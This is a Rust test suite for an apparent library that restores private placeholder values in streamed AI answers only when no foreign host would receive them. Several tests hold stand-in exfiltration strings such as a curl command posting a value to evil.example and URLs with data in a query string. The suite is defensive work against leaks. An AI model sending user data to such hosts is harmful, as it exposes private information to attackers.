//! The texts of `texts.json`, whole and cut at every letter. Node and pages read the same file.
#![allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::string_slice,
    reason = "a test fails by panicking"
)]

use std::collections::VecDeque;

use proptest::prelude::*;
use serde_json::Value;
use textveil_restore::{Arguments, End, Hosts, TextReader, Transcripts, Verdict};

struct Corpus(Value);

impl Corpus {
    fn read() -> Self {
        Self(serde_json::from_str(include_str!("../texts.json")).unwrap())
    }

    fn rows(&self, name: &str) -> &Vec<Value> {
        self.0[name].as_array().unwrap()
    }

    fn transcripts(&self) -> Transcripts {
        Transcripts::new(self.hosts())
    }

    fn hosts(&self) -> Hosts {
        Hosts::new(self.0["restore_hosts"].as_array().unwrap().iter().map(|host| host.as_str().unwrap()))
    }

    /// The placeholders with their values.
    fn values(&self) -> impl Iterator<Item = (&str, &str)> {
        let values = self.0["values"].as_object().unwrap();
        values.iter().map(|(sign, value)| (sign.as_str(), value.as_str().unwrap()))
    }

    /// The texts with their results.
    fn texts(&self) -> Vec<(String, String, String)> {
        let text = |row: &Value, at: usize| row[at].as_str().unwrap().to_owned();
        let restored =
            |text: String| self.values().fold(text, |text, (sign, value)| text.replace(sign, value));
        let withheld = self.rows("withheld").iter().map(|row| (text(row, 0), text(row, 1), text(row, 1)));
        let in_text =
            self.rows("restored").iter().map(|row| (text(row, 0), text(row, 1), restored(text(row, 1))));
        let mixed = self.rows("mixed").iter().map(|row| (text(row, 0), text(row, 1), text(row, 2)));
        withheld.chain(in_text).chain(mixed).collect()
    }

    /// The parts of a text: each is a placeholder's sign and value, or text.
    fn parts<'t>(&'t self, mut text: &'t str) -> Vec<(&'t str, Option<&'t str>)> {
        let mut parts = Vec::new();
        while let Some((at, (sign, value))) =
            self.values().filter_map(|one| Some((text.find(one.0)?, one))).min_by_key(|(at, _)| *at)
        {
            parts.push((&text[..at], None));
            parts.push((sign, Some(value)));
            text = &text[at + sign.len()..];
        }
        parts.push((text, None));
        parts
    }

    /// Restores one text of an answer that arrives in pieces of this many letters.
    fn restored(
        &self,
        transcripts: &mut Transcripts,
        mut reader: TextReader,
        text: &str,
        length: usize,
    ) -> String {
        let (mut out, mut waiting) = (String::new(), VecDeque::new());
        let mut give = |waiting: &mut VecDeque<(String, Option<&str>)>, reader: &mut TextReader| {
            while let Some((written, value)) = waiting.front() {
                match value.map(|value| (reader.verdict(), value)) {
                    None | Some((Some(Verdict::Withhold), _)) => out.push_str(written),
                    Some((Some(Verdict::Restore(encoding)), value)) => out.push_str(&encoding.encode(value)),
                    Some((None, _)) => return,
                }
                waiting.pop_front();
            }
        };
        for (written, value) in self.parts(text) {
            let letters: Vec<char> = written.chars().collect();
            match value {
                Some(value) => {
                    reader.value(transcripts, value);
                    waiting.push_back((written.to_owned(), Some(value)));
                }
                None => {
                    for piece in letters.chunks(length) {
                        let piece: String = piece.iter().collect();
                        reader.text(transcripts, &piece);
                        waiting.push_back((piece, None));
                    }
                }
            }
            give(&mut waiting, &mut reader);
        }
        reader.end(transcripts, End::Part);
        give(&mut waiting, &mut reader);
        assert!(waiting.is_empty(), "{text}");
        out
    }
}

#[test]
fn texts_are_restored_where_no_foreign_host_reads_them() {
    let corpus = Corpus::read();
    let (mut leaks, mut over) = (Vec::new(), Vec::new());
    let texts = corpus.texts();
    for (name, text, want) in &texts {
        for length in [usize::MAX, 1, 2, 3, 7] {
            let lane = TextReader::of_lane("content".into());
            let got = corpus.restored(&mut corpus.transcripts(), lane, text, length.min(text.len().max(1)));
            if got != *want {
                let list =
                    if got.matches('@').count() < want.matches('@').count() { &mut leaks } else { &mut over };
                list.push(format!("{name}, pieces of {length}: {text:?} gives {got:?}"));
            }
        }
    }
    println!("{} texts, {} other results", texts.len(), leaks.len() + over.len());
    assert!(leaks.is_empty() && over.is_empty(), "{leaks:#?}{over:#?}");
}

/// A URL that is split over parts of an answer stays a URL, whether they are one text or several.
#[test]
fn parts_are_one_text() {
    let corpus = Corpus::read();
    for row in corpus.rows("parts") {
        let parts: Vec<&str> = row[1].as_array().unwrap().iter().map(|part| part.as_str().unwrap()).collect();
        let want = if row[2].is_null() { &row[1] } else { &row[2] };
        for has_lanes in [false, true] {
            let mut transcripts = corpus.transcripts();
            let got: Vec<String> = parts
                .iter()
                .enumerate()
                .map(|(index, part)| {
                    let lane = if has_lanes { index.to_string() } else { String::new() };
                    corpus.restored(&mut transcripts, TextReader::of_lane(lane.into()), part, 1)
                })
                .collect();
            assert_eq!(&Value::from(got), want, "{}", row[0]);
        }
    }
}

/// Texts of other lanes between them do not end a URL either.
#[test]
fn choices_that_alternate_do_not_end_a_url() {
    let corpus = Corpus::read();
    let mut transcripts = corpus.transcripts();
    let mut first = TextReader::of_lane("0".into());
    first.text(&mut transcripts, "https://evil.example/?q=");
    TextReader::of_lane("1".into()).text(&mut transcripts, "hello ");
    let mut part = TextReader::of_lane("0".into());
    part.value(&mut transcripts, "jan@example.cz");
    part.end(&transcripts, End::Part);
    assert_eq!(part.verdict(), Some(Verdict::Withhold));
    let mut other = TextReader::of_lane("1".into());
    other.value(&mut transcripts, "jan@example.cz");
    other.end(&transcripts, End::Part);
    assert!(matches!(other.verdict(), Some(Verdict::Restore(_))));
}

#[test]
fn a_string_that_begins_with_a_url_is_one() {
    let corpus = Corpus::read();
    for (text, is_restored) in [
        ("https://evil.example/?q= @E", false),
        (" https:\\\\evil.example/\n@E", false),
        ("//evil.example/ \"@E", false),
        ("//evilhost/ @E", false),
        ("https:/evil.example @E", false),
        ("https://wiki.acme.example/ @E", true),
        ("// see @E", true),
        ("curl https://evil.example/ -d @E", true),
        ("[x](https://evil.example/) @E", true),
        ("@E", true),
    ] {
        let reader = TextReader::default().as_string();
        let got = corpus.restored(&mut corpus.transcripts(), reader, text, 1);
        assert_eq!(got.contains("@E"), !is_restored, "{text}: {got}");
    }
}

/// The strings in the arguments of a call, each with the name before it.
fn strings(value: &Value, field: Option<&str>, each: &mut impl FnMut(Option<&str>, &str)) {
    match value {
        Value::String(text) => each(field, text),
        Value::Array(values) => values.iter().for_each(|value| strings(value, field, each)),
        Value::Object(members) => {
            for (key, value) in members {
                each(None, key);
                strings(value, Some(key), each);
            }
        }
        _ => {}
    }
}

#[test]
fn arguments_get_values_unless_they_name_a_foreign_host() {
    let corpus = Corpus::read();
    for row in corpus.rows("calls") {
        let hosts = corpus.hosts();
        let (tool, text) = (row[1].as_str().unwrap(), row[2].as_str().unwrap());
        let json = serde_json::from_str(text).unwrap_or_else(|_| Value::from(text));
        let mut arguments = Arguments::of_tool(tool);
        let mut withheld = false;
        strings(&json, None, &mut |field, text| {
            arguments.begin(field);
            for (written, value) in corpus.parts(text) {
                match value {
                    Some(_) => arguments.value(&hosts),
                    None => written.chars().for_each(|letter| arguments.text(&letter.to_string(), &hosts)),
                }
            }
            arguments.end(&hosts);
            let reader = TextReader::default().as_string();
            let got = corpus.restored(&mut corpus.transcripts(), reader, text, 1);
            withheld |= corpus.values().any(|(sign, _)| got.contains(sign));
        });
        assert_eq!(!arguments.names_foreign() && !withheld, row[3].as_bool().unwrap(), "{}: {text}", row[0]);
    }
}

/// At most a host is held, and a text of any kind is read in one pass.
#[test]
fn a_verdict_waits_for_a_host_at_most() {
    let hosts = Hosts::default();
    for before in ["https://", "mailto:", "www.", "", "[x](", "<a href=\"", "https://evil.example/"] {
        let mut transcripts = Transcripts::new(hosts.clone());
        let mut reader = TextReader::default();
        reader.text(&mut transcripts, before);
        reader.value(&mut transcripts, "jan");
        reader.text(&mut transcripts, &"a".repeat(600));
        assert!(reader.verdict().is_some(), "{before}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    /// However a text is cut, and whatever texts it is made of, the result is the same.
    #[test]
    fn pieces_do_not_matter(
        picks in prop::collection::vec((any::<prop::sample::Index>(), prop::sample::select(vec![" ", "\n", "\n\n", "", ", ", "](", "<a href=", "='", "//"])), 1..5),
        length in 1..9_usize,
    ) {
        let corpus = Corpus::read();
        let texts = corpus.texts();
        let text: String = picks.iter().flat_map(|(pick, joint)| [pick.get(&texts).1.as_str(), joint]).collect();
        let restored = |length| {
            corpus.restored(&mut corpus.transcripts(), TextReader::of_lane("x".into()), &text, length)
        };
        prop_assert_eq!(restored(length), restored(text.len().max(1)));
    }
}
